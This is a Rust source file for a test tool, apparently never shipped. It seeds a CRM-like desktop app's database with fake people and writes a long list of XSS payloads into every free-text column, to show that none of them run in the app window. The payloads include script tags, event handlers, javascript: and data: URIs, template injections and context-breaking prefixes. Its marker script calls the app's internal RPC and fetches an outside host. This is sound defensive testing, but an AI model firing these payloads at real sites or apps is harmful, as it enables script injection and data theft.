//! Makes a workspace in which every text says something that would like to run: for the proof that in the real window
//! nothing does. Every column of text is found by asking the file, so that a new one is hostile from its first day. Never shipped.
//!
//! `hallway-hostile --file F --payloads N --outside http://127.0.0.1:PORT [--seed N]` prints `{"people":[…],"texts":[…],"columns":N}`.
use acts::prove::Chance;
use hallway_core::{Now, Store, TABLES, dispatch, open, store::Memory};
use serde_json::{Value, json};
use std::{collections::HashMap, error::Error, path::Path};

/// Columns that hold words of Hallway's own, or ids, dates and JSON it wrote: another word there is a damaged file, and said
/// to be one. Every other column of text gets hostile text.
const OUR_WORDS: &[(&str, &[&str])] = &[
    ("settings", &["key", "value"]),
    ("organisations", &["kind"]),
    ("people", &["country", "time_zone", "languages"]),
    ("contact_points", &["kind", "status", "source", "obtained_on"]),
    ("postal_addresses", &["country", "source", "given_on", "expires_on"]),
    ("tags", &["kind"]),
    ("fields", &["kind", "choices"]),
    ("field_values", &["date"]),
    ("touchpoints", &["kind", "on_day", "precision", "zone", "direction", "intent", "source"]),
    ("touchpoint_people", &["role", "observed_stage", "observed_by"]),
    ("stage_changes", &["axis", "from_stage", "to_stage", "on_day", "status", "cause", "evidence"]),
    ("stage_pins", &["axis", "stage", "on_day", "until", "until_day"]),
    ("imports", &["layout"]),
    ("operations", &["command", "subject_tbl"]),
    ("changes", &["op", "tbl", "old", "new"]),
    ("journey_configs", &["config"]),
    (
        "person_state",
        &[
            "country",
            "stage",
            "since",
            "confidence",
            "presence",
            "ring",
            "last_touch_on",
            "last_kind",
            "next_change_on",
        ],
    ),
];

/// What runs where it can: `§` says that it did, and asks for what a script would ask for; `¤` is an address outside.
const PAYLOADS: &[&str] = &[
    "<script>§</script>",
    "<script src=¤/s></script>",
    "<img src=x onerror=§>",
    "<img src=¤/img>",
    "<svg onload=§>",
    "<svg><script>§</script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=§>\"/></svg>",
    "<math><mtext></mtext><style><img src=x onerror=§></style></math>",
    "<math href=\"javascript:§\">click</math>",
    "<iframe src=\"javascript:§\"></iframe>",
    "<iframe srcdoc=\"<script>§</script>\"></iframe>",
    "<iframe src=¤/frame></iframe>",
    "<object data=\"javascript:§\"></object>",
    "<embed src=¤/embed>",
    "<link rel=stylesheet href=¤/style>",
    "<link rel=prefetch href=¤/prefetch>",
    "<style>@import '¤/import';</style>",
    "<style>*{background:url(¤/background)}</style>",
    "<base href=¤/>",
    "<meta http-equiv=refresh content=\"0;url=¤/refresh\">",
    "<form action=¤/form><input autofocus onfocus=§></form>",
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§>",
    "<textarea autofocus onfocus=§>",
    "<details open ontoggle=§>",
    "<video src=x onerror=§>",
    "<video><source onerror=§></video>",
    "<audio src=¤/audio onerror=§>",
    "<body onload=§>",
    "<marquee onstart=§>",
    "<a href=\"javascript:§\">here</a>",
    "<a href=\"data:text/html,<script>§</script>\">here</a>",
    "<a href=\"vbscript:§\">here</a>",
    "[here](javascript:§)",
    "![x](¤/markdown)",
    "javascript:§",
    "JaVaScRiPt:§",
    "data:text/html,<script>§</script>",
    "java\tscript:§",
    "¤/link",
    "{{constructor.constructor('§')()}}",
    "${§}",
    "#{§}",
    "<%= § %>",
    "{@html '<img src=x onerror=§>'}",
    "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
    "<template><img src=x onerror=§></template>",
    "<!--><img src=x onerror=§>-->",
    "<![CDATA[><img src=x onerror=§>]]>",
    "<p style=\"background:url(¤/css)\">x</p>",
    "<x onclick=§ style=\"position:fixed;inset:0\">x</x>",
    "<button popovertarget=x onclick=§>x</button>",
    "<img srcset=\"¤/srcset 1x\">",
    "<portal src=¤/portal></portal>",
    "<dialog open onclose=§>x</dialog>",
    "<isindex action=javascript:§ type=image>",
    "\u{202e}<img src=x onerror=§>\u{202c}",
    "<ｓｃｒｉｐｔ>§</ｓｃｒｉｐｔ>",
    "\u{0}<script>§</script>",
];

/// What could end whatever the text is put into.
const BREAKS: &[&str] = &["", "\">", "'>", "</textarea>", "</title>", "-->", "</script>", "</style>", "]]>", "`;"];

fn main() -> Result<(), Box<dyn Error>> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let options: HashMap<&str, &str> =
        arguments.chunks_exact(2).map(|pair| (pair[0].as_str(), pair[1].as_str())).collect();
    let needed = |name: &str| options.get(name).copied().ok_or_else(|| format!("say which {name}"));
    let outside = needed("--outside")?;
    let mut chance = Chance(options.get("--seed").map_or(Ok(1), |seed| seed.parse())?);
    let count: usize = needed("--payloads")?.parse()?;
    let ran = format!(
        "window.ran=1;__TAURI_INTERNALS__.invoke('rpc',{{cmd:'people.create',input:{{displayName:'INTRUDER'}},request:''}});fetch('{outside}/ran')"
    );
    // Every payload by itself first, and then behind what could come before it.
    let texts: Vec<String> = (0..count)
        .map(|n| {
            let (payload, before) = (PAYLOADS[n % PAYLOADS.len()], BREAKS[n / PAYLOADS.len() % BREAKS.len()]);
            format!("{before}{}", payload.replace('§', &ran).replace('¤', outside)).replace('\0', "")
        })
        .collect();

    let store = open(Path::new(needed("--file")?), Now::system(), 1, "UTC")?;
    let people = community(&store, texts.len())?;
    let columns = hostile(&store, &texts, &mut chance)?;
    println!("{}", json!({ "people": people, "texts": texts, "columns": columns }));
    Ok(())
}

/// Somebody for each text, with everything somebody can have.
fn community(store: &Store, count: usize) -> Result<Vec<Value>, Box<dyn Error>> {
    let call = |command: &str, input: Value| dispatch(store, Now::system(), command, input).map(|reply| reply.value);
    call("workspace.set_up", json!({ "product": "Queues", "zone": "UTC" }))?;
    let fields: Vec<Value> = (0..4)
        .map(|n| {
            call("fields.define", json!({ "label": format!("Field {n}"), "kind": "text", "choices": [] }))
                .map(|field| field["id"].clone())
        })
        .collect::<Result<_, _>>()?;
    let mut people = Vec::new();
    for n in 0..count {
        let person = call("people.create", json!({ "displayName": format!("Person {n}"), "organisation": format!("Firm {n}"), "city": "Pune", "notes": "n" }))?["id"].clone();
        for (kind, value) in [
            ("email", format!("p{n}@acme.example")),
            ("website", format!("https://acme.example/{n}")),
            ("github", format!("p{n}")),
            ("phone", format!("+49 30 {n:05}")),
        ] {
            call(
                "contact_points.add",
                json!({ "person": person, "kind": kind, "value": value, "source": "they_gave_it" }),
            )?;
        }
        call(
            "postal_addresses.add",
            json!({ "person": person, "lines": format!("Kiln Lane {n}"), "country": "DE", "phone": "n", "purpose": "stickers", "source": "they_gave_it", "sourceNote": "n" }),
        )?;
        call(
            "tags.add",
            json!({ "people": [person], "name": format!("Tag {n}"), "kind": if n % 2 == 0 { "topic" } else { "stack" } }),
        )?;
        for field in &fields {
            call("fields.set", json!({ "person": person, "field": field, "value": "M" }))?;
        }
        let entry = call(
            "touchpoints.log",
            json!({ "kind": "first_success", "people": [{ "person": person, "observedBy": "seen" }], "note": "n" }),
        )?;
        call("touchpoints.edit", json!({ "id": entry["id"], "note": "nn" }))?;
        call("journey.pin", json!({ "person": person, "stage": "learn", "until": "good", "reason": "because" }))?;
        if n % 10 == 9 {
            call("touchpoints.trash", json!({ "id": entry["id"] }))?;
        }
        people.push(person);
    }
    let gone = call("people.create", json!({ "displayName": "Gone" }))?;
    call("people.trash", json!({ "ids": [gone["id"]] }))?;
    Ok(people)
}

/// Writes the texts into every column of text that is not kept for words of ours, and says how many columns that were.
/// Behind the back of everything that would refuse one.
fn hostile(store: &Store, texts: &[String], chance: &mut Chance) -> Result<usize, Box<dyn Error>> {
    let mut columns = 0;
    store.write("workspace.begin", Memory::Recorded, Now::system(), |tx| {
        let derived = ["person_state", "operations", "changes", "change_people", "journey_configs", "tally"];
        for table in TABLES.iter().map(|table| table.name).chain(derived) {
            let ours = OUR_WORDS.iter().find(|(name, _)| *name == table).map_or(&[][..], |(_, columns)| columns);
            let all: Vec<String> = tx.column("SELECT name FROM pragma_table_info(?1) WHERE type = 'TEXT'", [table])?;
            for column in all.iter().filter(|column| !ours.contains(&column.as_str())) {
                columns += 1;
                let order = if table == "person_state" { "added_at" } else { "rowid" };
                let key = if table == "person_state" { "person" } else { "rowid" };
                let rows: Vec<(usize, String)> = (0..texts.len()).map(|n| (n, texts[n].clone())).collect();
                let turn = chance.roll(texts.len() as u64) as usize;
                for (n, text) in rows {
                    // Each text meets each row of some table, in an order of its own for every column.
                    tx.sql().execute(
                        &format!(
                            "UPDATE {table} SET {column} = ?1 WHERE {key} IN (SELECT {key} FROM (SELECT {key}, row_number() OVER (ORDER BY {order}) AS n FROM {table}) WHERE n % ?2 = ?3)"
                        ),
                        (text, texts.len() as i64, ((n + turn) % texts.len()) as i64),
                    )?;
                }
            }
        }
        tx.mark_changed("people");
        Ok(())
    })?;
    Ok(columns)
}
